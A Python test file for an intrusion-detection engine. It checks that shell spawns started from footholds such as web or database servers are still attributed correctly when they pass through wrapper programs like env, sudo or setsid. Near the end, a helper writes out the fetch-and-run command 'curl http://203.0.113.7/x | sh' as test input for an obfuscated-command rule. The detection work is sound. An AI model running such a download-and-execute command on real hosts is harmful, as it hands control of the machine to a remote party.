"""Who is responsible for a shell: with the shipped lists."""

import tomllib
from pathlib import Path

import pytest

from actors.detection import snapshots
from actors.detection.alerts import Alert
from actors.detection.events import Identity
from actors.detection.testing import Host, rules

FILTERS = tomllib.loads((Path(__file__).parents[2] / "lavender.toml").read_text())["filters"]
SHELL, CODE = "unexpected-shell-spawn", "obfuscated-command"
DASH = "/usr/bin/dash"

PASS_THROUGH = [
    *("env", "timeout", "setsid", "xargs", "find", "stdbuf", "script", "start-stop-daemon", "make"),
    *(
        "tar",
        "vim.basic",
        "git",
        "less",
        "ssh",
        "node",
        "python3.11",
        "perl",
        "awk",
        "nice",
        "sudo",
    ),
    *("sudo", "run-parts", "npm", "su", "man", "rsync", "tmux", "strace", "apt-get", "dpkg"),
    *(
        "systemd-run",
        "systemd-socket-activate",
        "parallel",
        "busybox",
        "expect",
        "flock",
        "logrotate",
    ),
]
FOOTHOLDS = {
    "/tmp/x": False,
    "/usr/sbin/nginx": True,
    "/usr/lib/postgresql/15/bin/postgres": True,
    "/usr/sbin/php-fpm8.2": True,
}


def shipped() -> Host:
    return Host(**FILTERS)


def foothold(host: Host, exe: str) -> Identity:
    return host.run(host.init, exe, system=FOOTHOLDS[exe])[0]


@pytest.mark.parametrize("name", PASS_THROUGH)
@pytest.mark.parametrize("exe", FOOTHOLDS)
def test_a_word_in_front_does_not_hide_a_shell(exe: str, name: str) -> None:
    host = shipped()
    between, _ = host.run(foothold(host, exe), f"/usr/bin/{name}", "sh")
    alerts = host.run(between, DASH, filename="/bin/sh")[1]
    assert SHELL in rules(alerts)
    assert alerts[0].detail == f"{exe} started the shell {DASH} through /usr/bin/{name}"


@pytest.mark.parametrize("name", [name for name in PASS_THROUGH if name != "busybox"])
def test_a_word_in_front_within_one_process_does_not_hide_a_shell(name: str) -> None:
    host = shipped()
    process = foothold(host, "/tmp/x")
    host.exec(process, f"/usr/bin/{name}", "sh")
    assert SHELL in rules(host.exec(process, DASH, filename="/bin/sh"))


@pytest.mark.parametrize("name", PASS_THROUGH)
def test_in_a_session_the_same_words_are_nothing(name: str) -> None:
    host = shipped()
    between, alerts = host.run(host.bash, f"/usr/bin/{name}", "bash")
    assert not [*alerts, *host.run(between, "/usr/bin/bash")[1]]


def test_several_words_are_looked_through() -> None:
    host = shipped()
    process = foothold(host, "/tmp/x")
    for name in ("setsid", "env", "timeout", "nice"):
        process, _ = host.run(process, f"/usr/bin/{name}")
    assert SHELL in rules(host.run(process, DASH)[1])


def test_what_stays_when_the_foothold_has_ended() -> None:
    host = shipped()
    process = foothold(host, "/tmp/x")
    between, _ = host.run(process, "/usr/bin/setsid")
    host.exit(process)
    host.wait(3600)
    host.exit(host.fork(host.bash))
    assert SHELL in rules(host.run(between, DASH)[1])


def test_a_script_that_begins_with_env_is_a_shell_of_whoever_ran_it() -> None:
    host = shipped()
    process = foothold(host, "/tmp/x")
    host.exec(process, "/usr/bin/env", "bash", "/tmp/s", filename="/tmp/s")
    assert SHELL in rules(host.exec(process, "/usr/bin/bash", "/tmp/s"))


def test_a_copy_of_a_pass_through_program_is_not_looked_through() -> None:
    host = shipped()
    copy, _ = host.run(host.bash, "/tmp/env", system=False)
    assert SHELL in rules(host.run(copy, DASH)[1])


def test_what_ran_before_is_looked_through_too() -> None:
    host = shipped()
    server = host.seed(host.init, "/usr/sbin/nginx")
    python = host.seed(server, "/usr/bin/python3.11")
    assert SHELL in rules(host.run(python, DASH)[1])
    cron = host.seed(host.init, "/usr/sbin/cron")
    python = host.seed(cron, "/usr/bin/python3.11")
    assert not host.run(python, DASH)[1]


def test_a_snapshot_keeps_who_is_responsible() -> None:
    host = shipped()
    between, _ = host.run(foothold(host, "/tmp/x"), "/usr/bin/env")
    host.engine = snapshots.restore(host.engine.rules, snapshots.take(host.engine))
    assert SHELL in rules(host.run(between, DASH)[1])


def builds(host: Host, parent: Identity) -> list[Alert]:
    make, _ = host.run(parent, "/usr/bin/make")
    return host.run(make, DASH, "-c", "curl http://203.0.113.7/x | sh", filename="/bin/sh")[1]


def test_a_build_tool_may_write_one_liners_for_a_session_and_not_for_a_foothold() -> None:
    host = shipped()
    assert not builds(host, host.bash)
    assert CODE in rules(builds(host, foothold(host, "/tmp/x")))
